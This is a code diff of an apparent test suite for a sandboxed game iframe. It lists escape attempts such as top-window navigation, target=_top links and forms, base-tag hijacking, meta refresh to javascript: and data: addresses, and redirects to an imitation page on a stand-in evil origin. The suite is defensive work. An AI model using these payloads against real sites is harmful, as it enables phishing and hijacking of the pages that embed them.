@@ -16,7 +16,6 @@ var ways = [
 ]
 ways.forEach(function (way) { try { way() } catch (error) {} })
 tell('tried')`),
-    watch: ['top page', 'requests'],
   },
   {
     name: 'top hash',
@@ -24,7 +23,6 @@ tell('tried')`),
     code: script(
       `try { top.location.hash = 'taken' } catch (error) {}; try { top.location = '#taken' } catch (error) {}; tell('tried')`,
     ),
-    watch: ['top page'],
   },
   {
     name: 'top javascript',
@@ -34,71 +32,62 @@ try { top.location = 'javascript:document.title="taken"' } catch (error) {}
 try { parent.location.replace('javascript:document.body.innerHTML="taken"') } catch (error) {}
 try { window.open('javascript:document.title="taken"', '_top') } catch (error) {}
 tell('tried')`),
-    watch: ['top page', 'storage'],
   },
   {
     name: 'link to top',
     attempts: 'clicks a link with target=_top by itself',
     code: `${TELL}<a id="a" target="_top" href="${EVIL_ORIGIN}/link">x</a><a id="b" target="_parent" href="${EVIL_ORIGIN}/parent">x</a><script>a.click(); b.click(); tell('tried')</script>`,
-    watch: ['top page', 'requests'],
   },
   {
     name: 'link to top, clicked',
     attempts: 'has the visitor click a link with target=_top',
     code: `${TELL}<a id="go" target="_top" style="position:fixed;inset:0;font-size:90px" href="${EVIL_ORIGIN}/clicked">PLAY</a><script>tell('tried')</script>`,
-    watch: ['top page', 'requests'],
     clicks: true,
   },
   {
     name: 'form to top',
     attempts: 'sends a form to the top window',
     code: `${TELL}<form id="f" target="_top" method="post" action="${EVIL_ORIGIN}/form"><input name="q" value="1"></form><script>f.submit(); tell('tried')</script>`,
-    watch: ['top page', 'requests'],
   },
   {
     name: 'form to our origin',
     attempts: 'posts a form to our own origin with the visitor’s cookies',
-    code: `${TELL}<form id="f" method="post" action="/"><input name="q" value="1"></form><form id="g" target="_top" action="/games/snake"></form><script>f.submit(); g.submit(); tell('tried')</script>`,
-    watch: ['top page', 'requests'],
+    code: `${TELL}<form id="g" method="post" action="/"><input name="q" value="1"></form><form id="h" target="_top" action="/games/snake"></form><script>g.submit(); h.submit(); tell('tried')</script>`,
   },
   {
     name: 'base target',
     attempts: 'points every link at the top window by <base>',
     code: `<base target="_top" href="${EVIL_ORIGIN}/">${TELL}<a id="a" href="base">x</a><script>a.click(); tell('tried')</script>`,
-    watch: ['top page', 'requests'],
+    alone: true,
   },
   {
     name: 'base href',
     attempts: 'makes relative addresses mean another site, or ours',
     code: `<base href="${EVIL_ORIGIN}/"><base href="//evil.example/">${TELL}<script src="payload.js"></script><script>attempt('base', function () { return document.baseURI.indexOf('evil.example') >= 0 ? document.baseURI : '' })</script>`,
-    watch: ['outcome', 'top page'],
+    alone: true,
   },
   {
     name: 'meta refresh',
     attempts: 'sends its own frame to another site without a script',
     code: `<meta http-equiv="refresh" content="0; url=${EVIL_ORIGIN}/refresh"><p>one moment</p>`,
-    watch: ['top page', 'alive'],
     leaves: true,
   },
   {
     name: 'meta refresh to javascript',
     attempts: 'runs a script by a refresh to a javascript: or data: address',
     code: `${TELL}<meta http-equiv="refresh" content="0; url=javascript:tell('breach: refresh')"><meta http-equiv="refresh" content="0; url=data:text/html,<script>parent.document.title='taken'</script>"><script>tell('tried')</script>`,
-    watch: ['outcome', 'top page'],
     leaves: true,
   },
   {
     name: 'own frame to another site',
     attempts: 'replaces itself with a page that imitates the site',
     code: script(`location.replace('${EVIL_ORIGIN}/imitation')`),
-    watch: ['top page', 'alive'],
     leaves: true,
   },
   {
     name: 'own frame to our home page',
     attempts: 'loads our own site inside its frame, to be clicked by mistake',
     code: script(`location.href = '/'`),
-    watch: ['top page', 'storage', 'alive'],
     leaves: true,
   },
   {
@@ -107,7 +96,6 @@ tell('tried')`),
     code: script(`
 location.replace('${EVIL_ORIGIN}/imitation')
 for (var until = Date.now() + 700; Date.now() < until; ) {}`),
-    watch: ['top page', 'alive'],
     leaves: true,
   },
   {
@@ -116,23 +104,21 @@ for (var until = Date.now() + 700; Date.now() < until; ) {}`),
     code: script(`
 var page = '<script>try { parent.document.title = "taken" } catch (error) {}</scr' + 'ipt>generated'
 location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }))`),
-    watch: ['top page', 'alive'],
     leaves: true,
   },
   {
     name: 'endless reload',
     attempts: 'reloads its frame again and again, to get the markup or a port twice',
     code: script(`setTimeout(function () { location.reload() }, 30); tell('tried')`),
-    watch: ['top page', 'alive'],
     leaves: true,
   },
   {
     name: 'history back',
     attempts: 'leaves the game by history.back and history.go',
     code: script(
-      `history.back(); history.go(-2); setTimeout(function () { history.go(-1) }, 200); tell('tried')`,
+      `history.back(); history.go(-2); setTimeout(function () { history.go(-1); tell('tried') }, 200)`,
     ),
-    watch: ['top page'],
+    alone: true,
   },
   {
     name: 'history flood',
@@ -143,12 +129,11 @@ for (var i = 0; i < 100; i++) {
   try { location.hash = 'h' + i } catch (error) {}
 }
 tell('tried')`),
-    watch: ['top page', 'alive'],
+    alone: true,
   },
   {
     name: 'javascript in its own frame',
     attempts: 'tries javascript: addresses in links, frames, and its own location',
-    code: `${TELL}<a id="a" href="javascript:parent.document.title='taken'">x</a><iframe src="javascript:top.document.title='taken'"></iframe><script>a.click(); try { location = "javascript:parent.document.title='taken'" } catch (error) {} tell('tried')</script>`,
-    watch: ['top page'],
+    code: `${TELL}<a id="c" href="javascript:parent.document.title='taken'">x</a><iframe src="javascript:top.document.title='taken'"></iframe><script>c.click(); try { location = "javascript:parent.document.title='taken'" } catch (error) {} tell('tried')</script>`,
   },
 ]
